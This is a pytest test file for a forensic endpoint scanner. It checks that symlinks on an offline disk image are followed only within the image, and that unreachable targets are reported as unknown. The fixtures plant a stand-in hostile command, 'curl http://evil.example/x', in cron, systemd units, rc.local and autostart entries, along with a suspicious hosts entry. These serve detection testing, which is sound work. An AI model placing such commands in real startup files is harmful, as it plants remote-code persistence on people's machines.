"""Links on a disk that is off: followed inside it, never out of it; their hidden targets never count as
clean."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from quetsach.endpoint import machines
from quetsach.endpoint.checking import Result
from quetsach.endpoint.fact import Unavailable
from quetsach.endpoint.machines import disk
from quetsach.endpoint.machines.disk import UnixFiles, WindowsTree
from quetsach.endpoint.probes import linux
from tests.endpoint import world
from tests.endpoint.test_signs import LINUX_CLEAN

EVIL = "curl http://evil.example/x"
RULE = 'rule planted { strings: $a = "PLANTED-BY-A-TEST" ascii condition: $a }'


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A clean Linux disk, and beside it, outside, files that no check of it may see."""
    made = tmp_path / "disk"
    for path, content in LINUX_CLEAN["files"].items():
        write(made, path, content)
    write(made, "/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nan:x:1:1:An:/home/an:/bin/sh\n")
    (made / "home/an").mkdir(parents=True)
    write(tmp_path / "outside", "/x", f"* * * * * root {EVIL}\n")
    return made


def write(root: Path, path: str, content: str) -> None:
    place = root / path.lstrip("/")
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(content)


def link(root: Path, path: str, target: str | Path) -> None:
    place = root / path.lstrip("/")
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(target)


def look(root: Path, **wanted: Any) -> Result:
    return world.look(machines.at(root), **wanted)


def told(result: Result) -> tuple[str, set[str]]:
    return str(result.verdict), {one.indicator for one in result.findings if one.indicator}


def test_the_disk_itself_is_clean(root: Path) -> None:
    assert told(look(root)) == ("clean", set())


CRON, UNIT, DESKTOP = (
    f"* * * * * root {EVIL}\n",
    f"[Service]\nExecStart=/bin/sh -c '{EVIL}'\n",
    f"Exec={EVIL}\n",
)
FOLLOWED = {
    "cron, from its folder": ("/etc/cron.d/x", "../../opt/x/a", CRON, "/opt/x/a"),
    "cron, absolute": ("/etc/cron.d/x", "/opt/x/a", CRON, "/opt/x/a"),
    "cron, above the root": ("/etc/cron.d/x", "../../../../../../opt/x/a", CRON, "/opt/x/a"),
    "the crontab": ("/etc/crontab", "/srv/crontab", CRON, "/srv/crontab"),
    "the whole folder": ("/etc/cron.d", "/srv/cron", CRON, "/srv/cron/a"),
    "a unit": ("/etc/systemd/system/x.service", "/srv/a.service", UNIT, "/srv/a.service"),
    "a unit that is wanted": (
        "/etc/systemd/system/multi-user.target.wants/x.service", "/srv/x.service", UNIT, "/srv/x.service"
    ),
    "a folder of wants": ("/etc/systemd/system/a.target.wants", "/srv/w", UNIT, "/srv/w/x.service"),
    "a unit of a person": (
        "/home/an/.config/systemd/user/x.service", "../../../deep/x.service", UNIT, "/home/an/deep/x.service"
    ),
    "a piece of a unit": ("/etc/systemd/system/cron.service.d/o.conf", "/srv/o", UNIT, "/srv/o"),
    "rc.local": ("/etc/rc.local", "/srv/rc", f"#!/bin/sh\n{EVIL}\n", "/srv/rc"),
    "autostart": ("/home/an/.config/autostart/x.desktop", "/srv/x", DESKTOP, "/srv/x"),
    "hosts": ("/etc/hosts", "/srv/hosts", "198.51.100.66 a\n", "/srv/hosts"),
}  # fmt: skip


@pytest.mark.parametrize("name", FOLLOWED)
def test_what_a_link_starts_is_found(name: str, root: Path) -> None:
    path, target, content, place = FOLLOWED[name]
    (root / path.lstrip("/")).unlink(missing_ok=True)
    write(root, place, content)
    link(root, path, target)
    verdict, found = told(look(root))
    assert verdict == "found"
    assert found & {"evil.example", "198.51.100.66"}


STARTERS = {
    "a script of each hour": ("/etc/cron.hourly/x", "#!/bin/sh\n"),
    "a start script": ("/etc/rc2.d/S01x", "#!/bin/sh\n"),
    "a profile's": ("/etc/profile.d/x.sh", "#!/bin/sh\n"),
}


@pytest.mark.parametrize("name", STARTERS)
@pytest.mark.parametrize("target", ["/data/hidden/x", "../../data/hidden/x"])
def test_a_program_that_starts_by_a_link_is_opened(name: str, target: str, root: Path) -> None:
    path, head = STARTERS[name]
    write(root, "/data/hidden/x", f"{head}# PLANTED-BY-A-TEST\n")
    link(root, path, target)
    assert [one.sign for one in look(root, rules=(RULE,)).findings] == ["MAL-01"]


def test_a_program_of_a_unit_that_is_a_link_is_opened(root: Path) -> None:
    write(root, "/data/hidden/x", "\x7fELF PLANTED-BY-A-TEST\n")
    link(root, "/usr/local/sbin/helper", "/data/hidden/x")
    write(root, "/etc/systemd/system/h.service", "[Service]\nExecStart=/usr/local/sbin/helper -d\n")
    assert [one.sign for one in look(root, rules=(RULE,)).findings] == ["MAL-01"]


@pytest.mark.parametrize("path", ["/opt", "/var/www", "/home/an/Downloads", "/home/an"])
def test_a_folder_that_is_searched_may_be_a_link(path: str, root: Path) -> None:
    write(root, "/data/there/bin/x", "PLANTED-BY-A-TEST\n")
    place = root / path.lstrip("/")
    if place.is_dir():
        place.rmdir()
    link(root, path, "/data/there")
    assert [one.sign for one in look(root, rules=(RULE,)).findings] == ["MAL-01"]


ELSEWHERE = [
    "/etc/cron.d/x", "/etc/cron.d", "/etc/crontab", "/etc/cron.daily/x", "/etc/systemd/system/x.service",
    "/etc/systemd/system/a.target.wants/x.service", "/etc/systemd/system/cron.service.d", "/etc/rc.local",
    "/etc/init.d/x", "/etc/profile.d/x.sh", "/etc/ld.so.preload", "/etc/hosts", "/opt", "/etc/passwd",
    "/home/an/.config/autostart/x.desktop",
]  # fmt: skip


@pytest.mark.parametrize("path", ELSEWHERE)
@pytest.mark.parametrize("kind", ["outside", "gone", "loop"])
def test_what_cannot_be_followed_is_never_clean_and_nothing_outside_is_read(
    path: str, kind: str, root: Path
) -> None:
    (root / path.lstrip("/")).unlink(missing_ok=True)
    outside = root.parent / "outside"
    target = {"outside": outside if path == "/etc/cron.d" else outside / "x", "gone": "/data/not/here",
              "loop": path}[kind]  # fmt: skip
    link(root, path, target)
    result = look(root)
    assert told(result) == ("unknown", set())
    reasons = {gap.reason for seen in result.observed.values() for gap in seen.gaps}
    assert reasons & {"elsewhere", "failed"}


@pytest.mark.parametrize("path", ["/home/an/.ssh/authorized_keys", "/etc/pam.d/sshd"])
def test_a_way_to_sign_in_behind_a_link_is_looked_at_or_told(path: str, root: Path) -> None:
    (root / path.lstrip("/")).unlink(missing_ok=True)
    link(root, path, "/data/not/here")
    (gap,) = look(root).observed["logins"].gaps
    assert (gap.reason, gap.detail) == ("elsewhere", path)


def test_what_is_switched_off_by_a_link_to_nothing_is_clean(root: Path) -> None:
    """Systemd's mask, and a `.wants` link whose unit was removed but is masked."""
    for path in ("/etc/systemd/system/x.service", "/etc/systemd/system/a.target.wants/y.service",
                 "/etc/cron.d/x", "/etc/ld.so.preload", "/root/.bash_history"):  # fmt: skip
        link(root, path, "/dev/null")
    link(root, "/etc/systemd/system/a.target.wants/x.service", "/usr/lib/systemd/system/x.service")
    link(root, "/etc/systemd/system/b.target.wants/cron.service", "/lib/systemd/system/cron.service")
    assert told(look(root)) == ("clean", set())


def test_a_long_chain_is_followed_as_far_as_linux_does(root: Path) -> None:
    write(root, "/srv/0", CRON)
    for number in range(1, 45):
        link(root, f"/srv/{number}", f"/srv/{number - 1}")
    link(root, "/etc/cron.d/x", "/srv/39")
    assert told(look(root))[0] == "found"
    (root / "etc/cron.d/x").unlink()
    link(root, "/etc/cron.d/x", "/srv/44")
    assert told(look(root)) == ("unknown", set())


@pytest.mark.parametrize("path", ["/etc/crontab", "/etc/cron.d/x", "/etc/ld.so.preload"])
def test_a_pipe_makes_nobody_wait(path: str, root: Path) -> None:
    (root / path.lstrip("/")).unlink(missing_ok=True)
    os.mkfifo(root / "srv-pipe")
    link(root, path, "/srv-pipe")
    assert told(look(root)) == ("unknown", set())


def test_on_a_running_machine_a_link_to_nothing_starts_nothing(root: Path) -> None:
    link(root, "/etc/cron.d/x", "/data/not/here")
    files = UnixFiles(root, is_own=True)
    with pytest.raises(Unavailable, match="missing"):
        files.read("/etc/cron.d/x", 100)
    assert files.entries("/etc/cron.d/x/y") == []


@pytest.mark.parametrize(("asked", "refused"), [("listing", "/etc/cron.d"), ("lstat", "/etc/crontab")])
def test_what_the_disk_does_not_give_is_told(
    asked: str, refused: str, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A folder without rights, a sector that cannot be read: neither counts as "nothing is there"."""
    (root / "etc/cron.d").mkdir(exist_ok=True)
    place = root / refused.lstrip("/")
    scan, stat = os.scandir, Path.lstat
    if asked == "listing":

        def scandir(path: Any) -> Any:
            if path == place:
                raise PermissionError(13, "no")
            return scan(path)

        monkeypatch.setattr(disk.os, "scandir", scandir)
    else:

        def lstat(path: Path) -> os.stat_result:
            if path == place:
                raise OSError(5, "Input/output error")
            return stat(path)

        monkeypatch.setattr(Path, "lstat", lstat)
    assert told(look(root)) == ("unknown", set())


def test_more_files_than_are_looked_at_are_told(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(linux, "_MOST_FILES", 3)
    for number in range(4):
        write(root, f"/etc/cron.d/{number}", "# nothing\n")
    assert told(look(root)) == ("unknown", set())


def test_two_names_that_differ_in_case_are_two_files(tmp_path: Path) -> None:
    root = world.tree(world.CLEAN, tmp_path)
    for name, content in (
        ("tai lieu.exe", "MZ"),
        ("TAI LIEU.EXE", "MZ PLANTED-BY-A-TEST"),
        ("Tai lieu.exe", "MZ"),
    ):
        (root / "C:/Users/an/Downloads" / name).write_text(content)
    result = world.look(machines.at(root), rules=(RULE,))
    assert [one.sign for one in result.findings] == ["MAL-01"]


WINDOWS = [r"C:\Users\an\Downloads", r"C:\Windows\System32\Tasks", r"C:\Windows\System32\drivers\etc",
           r"C:\Users\binh"]  # fmt: skip


@pytest.mark.parametrize("path", WINDOWS)
def test_a_junction_of_a_windows_disk_is_told_and_nothing_behind_it_is_read(
    path: str, tmp_path: Path
) -> None:
    root = world.tree(world.CLEAN, tmp_path / "disk")
    place = root / path.replace("\\", "/")
    outside = tmp_path / "outside"
    (outside / "AppData/Roaming").mkdir(parents=True)
    (outside / "AAct.exe").write_text("MZ PLANTED-BY-A-TEST")
    (outside / "hosts").write_text("198.51.100.66 x\n")
    if place.exists():
        place.rename(tmp_path / "moved")
    place.symlink_to(outside)
    assert told(world.look(machines.at(root), rules=(RULE,))) == ("unknown", set())


def test_a_startup_folder_that_is_a_link_lists_nothing_outside(tmp_path: Path) -> None:
    root = world.tree(world.CLEAN, tmp_path / "disk")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/a.cmd").write_text("x")
    place = root / "C:/Users/an/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
    place.parent.mkdir(parents=True)
    place.symlink_to(tmp_path / "outside")
    with pytest.raises(Unavailable, match="elsewhere"):
        WindowsTree(root).entries(
            r"C:\Users\an\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup"
        )
    assert told(world.look(machines.at(root))) == ("unknown", set())
